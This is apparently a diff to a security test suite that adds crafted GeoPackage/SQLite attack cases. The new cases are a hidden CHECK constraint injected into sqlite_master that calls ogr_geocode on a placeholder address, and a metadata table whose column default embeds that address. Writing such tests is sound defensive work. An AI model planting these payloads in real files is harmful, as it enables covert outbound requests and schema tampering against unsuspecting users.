@@ -240,6 +240,23 @@ ATTACKS: dict[str, Attack] = {
     ),
     "undeclared table": Attack(_run("CREATE TABLE beside (fid INTEGER PRIMARY KEY);"), _active),
     "metadata": Attack(_run(QGIS_METADATA), _active),
+    "hidden constraint": Attack(
+        _run(
+            _ROW.split("INSERT")[0]
+            + "UPDATE sqlite_master SET sql = rtrim(sql, ')') || ', CONSTRAINT ''\"'' "
+            "CHECK (ogr_geocode(''{address}'') = 1), CONSTRAINT ''\"'' CHECK (1))' "
+            "WHERE name = '{table}'; PRAGMA writable_schema = RESET;"
+        ),
+        _active,
+    ),
+    "default of the standard": Attack(
+        _run(
+            "DROP TABLE IF EXISTS gpkg_metadata; CREATE TABLE gpkg_metadata (id INTEGER PRIMARY "
+            "KEY, md_scope TEXT, md_standard_uri TEXT, mime_type TEXT DEFAULT "
+            "(printf('{address}')), metadata TEXT);"
+        ),
+        _active,
+    ),
     "coordinate system": Attack(
         _run("UPDATE gpkg_spatial_ref_sys SET definition = '{address}/crs' WHERE srs_id = 4326;"),
         _active,
